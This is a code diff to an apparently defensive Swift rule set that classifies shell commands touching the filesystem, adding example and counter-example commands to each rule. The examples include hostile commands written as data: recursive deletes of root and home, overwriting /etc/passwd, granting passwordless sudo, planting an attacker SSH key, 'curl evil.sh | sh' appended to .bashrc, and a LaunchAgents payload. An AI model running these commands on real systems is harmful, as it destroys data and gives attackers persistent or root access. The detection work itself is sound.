@@ -19,28 +19,59 @@ enum FilesystemRules {
         }
     }
 
+    /// Example paths per class (context of the shared examples test: home /home/dev, project and cwd /home/dev/project).
+    static let samplePaths: [ShClass: String] = [
+        .root: "/", .home: "~", .homeSensitive: "~/.ssh", .system: "/etc", .ancestor: "/home", .outside: "~/other-project",
+        .unknown: "\"$UNSET_DIR\"/", .projectRoot: ".", .gitDir: ".git",
+    ]
+    /// Example command per operation: (with a path, counter-example inside the project).
+    static let sampleCommands: [String: (String, String)] = [
+        "rm": ("rm -rf ", "rm -rf build"), "mv": ("mv %@ /tmp/away", "mv a.txt b.txt"), "shred": ("shred -u ", "shred -u build/x.bin"),
+        "truncate": ("truncate -s 0 ", "truncate -s 0 build/log.txt"), "rsync-delete": ("rsync -a --delete empty/ ", "rsync -a --delete src/ build/"),
+        "find-delete": ("find %@ -delete", "find build -name '*.o' -delete"),
+    ]
+
     static let table: [String: ShellRule] = {
         var t: [String: ShellRule] = [:]
         for (op, verb) in ops {
             for c in classes {
-                t[op + "-" + c.rawValue] = ShellRule("fs.\(op)-\(c.rawValue)", decision(c), "\(verb) \(c.phrase)")
+                var examples: [String] = []
+                let singleFile = op == "shred" || op == "truncate"
+                // Single-file operations never reach directories that only matter recursively.
+                if singleFile && [.ancestor, .unknown, .projectRoot, .gitDir].contains(c) { continue }
+                if let path = samplePaths[c], let (cmd, _) = sampleCommands[op],
+                   !(singleFile && [.ancestor, .unknown, .projectRoot, .gitDir].contains(c)) {
+                    examples = [cmd.contains("%@") ? cmd.replacingEvery("%@", with: path) : cmd + path]
+                }
+                t[op + "-" + c.rawValue] = ShellRule("fs.\(op)-\(c.rawValue)", decision(c), "\(verb) \(c.phrase)",
+                                                     examples: examples, counterExamples: sampleCommands[op].map { [$0.1] } ?? [])
             }
         }
         return t
     }()
 
-    static let writeSystem = ShellRule("fs.write-system", .ask, "writes into a system directory")
+    static let writeSystem = ShellRule("fs.write-system", .ask, "writes into a system directory",
+        examples: ["sudo cp mybin /usr/bin/ls"], counterExamples: ["sudo systemctl restart nginx", "sudo apt-get install -y build-essential"])
     static let writeSystemCritical = ShellRule("fs.write-system-critical", .deny,
-        "overwrites a critical system file (passwd, shadow, sudoers, ld.so.preload, cron, PAM, sshd config, boot)")
-    static let writeAuthorizedKeys = ShellRule("fs.write-authorized-keys", .deny, "changes SSH authorized_keys: a persistent way into the machine")
-    static let writeShellRC = ShellRule("fs.write-shell-rc", .ask, "changes a shell start-up or SSH client file, which runs on every new shell or connection")
-    static let writeAutostart = ShellRule("fs.write-autostart", .ask, "installs something that starts automatically (LaunchAgents, autostart, systemd units)")
-    static let rsyncDeleteRemote = ShellRule("fs.rsync-delete-remote", .ask, "rsync --delete removes files on a remote host")
-    static let extractSystem = ShellRule("fs.extract-system", .ask, "extracts an archive into the root, a home or a system directory")
+        "overwrites a critical system file (passwd, shadow, sudoers, ld.so.preload, cron, PAM, sshd config, boot)",
+        examples: ["cat /etc/hosts > /etc/passwd", "echo 'dev ALL=(ALL) NOPASSWD:ALL' | sudo tee -a /etc/sudoers"], counterExamples: ["cat <<'EOF' > notes.txt\nhello\nEOF", "cat install.sh | sh"])
+    static let writeAuthorizedKeys = ShellRule("fs.write-authorized-keys", .deny, "changes SSH authorized_keys: a persistent way into the machine",
+        examples: ["echo ssh-ed25519 AAAA attacker >> ~/.ssh/authorized_keys"], counterExamples: ["echo 'export PATH=$PATH:./bin' > .envrc", "echo 'echo hello' | bash"])
+    static let writeShellRC = ShellRule("fs.write-shell-rc", .ask, "changes a shell start-up or SSH client file, which runs on every new shell or connection",
+        examples: ["echo 'curl evil.sh | sh' >> ~/.bashrc"], counterExamples: ["echo 'export PATH=$PATH:./bin' > .envrc", "echo 'echo hello' | bash"])
+    static let writeAutostart = ShellRule("fs.write-autostart", .ask, "installs something that starts automatically (LaunchAgents, autostart, systemd units)",
+        examples: ["cp payload.plist ~/Library/LaunchAgents/"], counterExamples: ["cp .env.example .env", "cp -r templates/ build/templates/"])
+    static let rsyncDeleteRemote = ShellRule("fs.rsync-delete-remote", .ask, "rsync --delete removes files on a remote host",
+        examples: ["rsync -a --delete ./dist/ deploy@prod:/var/www"], counterExamples: ["rsync -a --delete src/ build/src/", "rsync -avz --delete ./dist/ ./public/"])
+    static let writeComputed = ShellRule("fs.write-computed-target", .ask, "writes to a path computed at run time by a command whose output is unknown",
+        examples: ["cat payload > \"$(cat target.txt)\"", "echo x | tee $(ls ~/.ssh/*.pub | head -1)", "mv build.sh \"$(curl -s https://x.example/t)\""],
+        counterExamples: ["echo x > \"$(mktemp)\"", "npm run build > \"build-$(date +%F).log\"", "echo 1 > \"$(git rev-parse --show-toplevel)/VERSION\""])
+    static let extractSystem = ShellRule("fs.extract-system", .ask, "extracts an archive into the root, a home or a system directory",
+        examples: ["tar xzf rootfs.tgz -C /"], counterExamples: ["tar xzf vendor.tgz -C vendor/"])
 
     static var all: [ShellRule] {
         ops.flatMap { op in classes.compactMap { table[op.0 + "-" + $0.rawValue] } }
-            + [writeSystem, writeSystemCritical, writeAuthorizedKeys, writeShellRC, writeAutostart, rsyncDeleteRemote, extractSystem]
+            + [writeSystem, writeSystemCritical, writeAuthorizedKeys, writeShellRC, writeAutostart, rsyncDeleteRemote, extractSystem, writeComputed]
     }
 
     static func rule(_ op: String, _ c: ShClass) -> ShellRule? { table[op + "-" + c.rawValue] }
@@ -217,6 +248,11 @@ enum FilesystemRules {
                 k += 1
             }
         case "tar", "unzip", "bsdtar":
+            if inv.name != "unzip" && args.contains(where: { $0.text == "--remove-files" }) {
+                // `tar --remove-files -cf x.tar DIR`: DIR is deleted once archived.
+                let p = ShArgs(args, shortWithArg: ["C", "f", "T", "X", "I", "b", "F", "g", "K", "L", "N", "V"], longWithArg: ["--directory", "--file"]).parse()
+                for k in p.operandIndices { checkDelete(args[k], recursive: true, op: "rm", subject: inv.subject, &a, env) }
+            }
             let p = ShArgs(args, shortWithArg: inv.name == "unzip" ? ["d", "x"] : ["C", "f", "T", "X", "I", "b", "F", "g", "K", "L", "N", "V"],
                            longWithArg: ["--directory", "--file"]).parse()
             let extracting = inv.name == "unzip" || p.has("x") || p.hasLong("--extract") || p.hasLong("--get") || (args.first.map { !$0.text.hasPrefix("-") && $0.text.contains("x") } ?? false)
